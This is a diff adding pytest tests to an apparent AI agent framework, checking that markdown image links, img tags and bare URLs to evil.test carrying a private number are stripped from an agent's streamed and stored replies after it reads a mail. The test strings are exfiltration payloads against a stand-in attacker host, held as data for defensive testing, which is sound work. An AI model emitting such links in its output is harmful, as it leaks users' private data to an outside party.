@@ -5,6 +5,7 @@ from __future__ import annotations
 from typing import Any
 
 import pytest
+from langchain_core.messages import AIMessageChunk
 
 from reinforced_agent import tool
 from reinforced_agent.policies.approval import ApprovalPolicy
@@ -93,6 +94,37 @@ def test_the_host_says_what_becomes_of_it(options: dict[str, Any], status: str) 
     assert house.status("c3") == status
     assert [one["code"] for one in house.result["calls"]["c3"]["warnings"]] == ["private_value"]
     assert ("was not run" in house.model.seen[-1][-1].text) is (status == "refused")
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        pytest.param(f"![x]({LINK})", id="image"),
+        pytest.param(f"![x][1]\nMore.\n\n[1]: {LINK}", id="definition-at-the-end"),
+        pytest.param(f"<img alt='x'\n src='{LINK}'>", id="tag-over-lines"),
+        pytest.param(f"`{LINK}`", id="code"),
+        pytest.param(f"evil.test/?n={NUMBER}", id="no-scheme"),
+    ],
+)
+def test_no_piece_of_a_stream_holds_such_a_link(image: str) -> None:
+    """The words before it come as they are written; what is shown in the end is the message of the thread."""
+    house = House(MAIL, RECORD, f"Her number is known.\nSee {image} there.\nAnd so on.", tools=tools())
+    said: Any = {"messages": [("user", "Read mail m1")]}
+    parts = list(house.agent.stream(said, house.config, stream_mode="messages"))
+    pieces = [part.text for part, _ in parts if isinstance(part, AIMessageChunk) and part.text]
+    stored = house.agent.get_state(house.config).values["messages"][-1].text
+    assert "".join(pieces) == stored
+    assert pieces[:2] == ["Her ", "number "]
+    if "`" not in image:
+        assert f"evil.test/?n={NUMBER}" not in stored
+
+
+def test_what_is_written_beside_a_call_leads_nowhere_either() -> None:
+    """It is shown like an answer, and the receipt of the turn tells."""
+    beside = calls(call("get_customer", {"name": "Bea"}, "c4"), content=f"One more. ![x]({LINK})")
+    house = run(MAIL, RECORD, beside, "Done.")
+    assert not any(LINK in message.text for message in house.history)
+    assert [note["code"] for note in house.result["receipt"]["notes"]] == ["private_value"]
 
 
 def test_a_link_of_an_answer_is_made_inert_and_the_receipt_tells() -> None:
